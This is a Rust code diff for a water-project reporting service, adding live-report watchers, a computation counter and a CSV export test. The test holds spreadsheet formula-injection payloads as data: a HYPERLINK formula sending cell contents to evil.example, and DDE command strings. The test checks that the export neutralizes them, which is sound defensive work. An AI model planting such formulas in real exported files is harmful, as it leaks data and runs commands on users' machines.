@@ -10,6 +10,7 @@
 //! - [`grpc`]: the adapter between `cwsm.reporting.v1` (and the milestone event) and the above.
 //! - [`export`]: the report as CSV or an Excel workbook.
 //! - [`dashboard`]: the administrators' web page, over HTTP on the gRPC port.
+//! - [`watch`]: live reports, computed once per change for all their watchers.
 //! - [`bench`]: `cwsm report bench`.
 //!
 //! Reporting keeps its own copy of the milestone facts, and in the same transaction as each new
@@ -29,8 +30,10 @@ pub mod plan;
 pub mod report;
 pub mod sha256;
 pub mod store;
+pub mod watch;
 
 use std::sync::Arc;
+use std::sync::atomic::{AtomicU64, Ordering};
 
 use chrono::NaiveDate;
 use cwsm_platform::auth::Principal;
@@ -39,7 +42,6 @@ use cwsm_platform::grpc::Page;
 use cwsm_platform::idempotency::RequestKey;
 use cwsm_platform::vocab::Sector;
 use cwsm_platform::{Error, Result, now_ms};
-use tokio::sync::watch;
 
 use crate::achievement::{Achievement, Correction, NewAchievement};
 use crate::plan::{Kind, StoredPlan};
@@ -55,11 +57,15 @@ pub const SERVICE_NAME: &str = "cwsm.reporting.v1.ReportingService";
 pub struct Reporting {
     store: Store,
     /// A generation number, bumped after every committed change that can alter a report.
-    changes: Arc<watch::Sender<u64>>,
+    changes: Arc<tokio::sync::watch::Sender<u64>>,
     /// Where the projects service answers (for RebuildCounts); set once the server listens.
     projects_url: Arc<std::sync::RwLock<Option<String>>>,
     /// WatchReport streams open per caller.
     watch_streams: Arc<cwsm_platform::server::CallerStreams>,
+    /// How many reports were computed (read from the store), for tests of the watchers' fan-out.
+    computations: Arc<AtomicU64>,
+    /// The live reports shared by their watchers (see [`watch`]).
+    feeds: Arc<watch::Feeds>,
 }
 
 fn require_admin(p: &Principal, what: &str) -> Result<()> {
@@ -84,12 +90,14 @@ impl Reporting {
     }
 
     fn with_store(store: Store) -> Reporting {
-        let (changes, _) = watch::channel(0);
+        let (changes, _) = tokio::sync::watch::channel(0);
         Reporting {
             store,
             changes: Arc::new(changes),
             projects_url: Arc::new(std::sync::RwLock::new(None)),
             watch_streams: cwsm_platform::server::CallerStreams::new("WatchReport", 4),
+            computations: Arc::new(AtomicU64::new(0)),
+            feeds: Arc::default(),
         }
     }
 
@@ -179,14 +187,15 @@ impl Reporting {
         self.projects_url.read().ok().and_then(|u| u.clone())
     }
 
-    /// The administrators' dashboard (`/dashboard`), served over plain HTTP beside gRPC.
+    /// The administrators' dashboard (`/dashboard`), served over HTTP beside gRPC.
     /// Streams of live updates end when `shutdown` is cancelled.
     pub fn dashboard(
         &self,
         keys: Arc<cwsm_platform::auth::Keys>,
         shutdown: tokio_util::sync::CancellationToken,
+        options: dashboard::Options,
     ) -> axum::Router {
-        dashboard::router(self.clone(), keys, shutdown)
+        dashboard::router(self.clone(), keys, shutdown, options)
     }
 
     /// Tells watchers that a report may have changed.
@@ -196,7 +205,7 @@ impl Reporting {
 
     /// A receiver that sees a change after every committed change to facts, achievements or
     /// plans (in this process).
-    pub fn subscribe(&self) -> watch::Receiver<u64> {
+    pub fn subscribe(&self) -> tokio::sync::watch::Receiver<u64> {
         self.changes.subscribe()
     }
 
@@ -291,6 +300,7 @@ impl Reporting {
         if version < 0 {
             return Err(Error::invalid("plan_version", "must not be negative"));
         }
+        self.computations.fetch_add(1, Ordering::Relaxed);
         let stored = self.store.plan_by_code(code.trim(), version).await?;
         let totals = self
             .store
@@ -304,6 +314,11 @@ impl Reporting {
             as_of,
             now_ms(),
         ))
+    }
+
+    /// How many reports this service has computed since it started (every [`Reporting::report`]).
+    pub fn report_computations(&self) -> u64 {
+        self.computations.load(Ordering::Relaxed)
     }
 
     /// Sets an event the consumer cannot use aside for administrators.
@@ -658,6 +673,71 @@ mod tests {
         assert_ne!(first[0].project_id, second[0].project_id);
         assert_eq!(last, "");
 
+        r.db().close().await;
+        cleanup(&path);
+    }
+
+    /// A water user's town that a spreadsheet would run as a formula reaches the CSV export
+    /// through the milestone event, neutralized (OWASP): a leading `'`, and quoted.
+    #[tokio::test]
+    async fn csv_export_neutralizes_formulas_from_project_data() {
+        let (r, path) = temp().await;
+        r.seed_default_plan().await.expect("seed");
+        let handler = r.event_handler();
+        let as_of = report::parse_date("2020-12-31").expect("date");
+        for (k, town) in [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+1",
+            "\r=1+1",
+        ]
+        .into_iter()
+        .enumerate()
+        {
+            let mut e = envelope(&format!("ev-{k}"), &format!("p-{k}"), Milestone::HandedOver);
+            let mut m = ProjectMilestone::decode(e.payload.as_slice()).expect("decode");
+            m.town = town.to_string();
+            e.payload = m.encode_to_vec();
+            handler.handle(&e).await.expect("handled");
+            let file = r
+                .export("xinbei-2020", 0, as_of, export::FileFormat::Csv)
+                .await
+                .expect("csv");
+            let text = String::from_utf8(file.content).expect("utf-8");
+            let a8 = text
+                .lines()
+                .find(|l| l.starts_with("A8-CONTRACT-PROJECTS,"))
+                .expect("a8 line");
+            // The facts are forgotten after each round: this town is alone in its cell.
+            let cell = format!("\"'{}=", town.replace('"', "\"\""));
+            assert!(
+                a8.contains(&format!(",{cell}")),
+                "town {town:?} not neutralized in {a8:?}"
+            );
+            // No field of any line starts with a formula character, but for the numeric
+            // columns we write ourselves.
+            for line in text.lines().skip(1) {
+                for (c, field) in export::split_csv_line(line).iter().enumerate() {
+                    if export::NUMERIC_COLUMNS.contains(&c) {
+                        assert!(field.parse::<f64>().is_ok(), "column {c}: {field:?}");
+                        continue;
+                    }
+                    assert!(
+                        !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                        "column {c} of {line:?}: {field:?}"
+                    );
+                }
+            }
+            // Clear the facts so the next town leads its cell alone.
+            let admin = Principal {
+                subject: "t".into(),
+                role: cwsm_platform::auth::Role::Admin,
+                org: None,
+            };
+            r.forget_facts(&admin).await.expect("forget");
+        }
         r.db().close().await;
         cleanup(&path);
     }
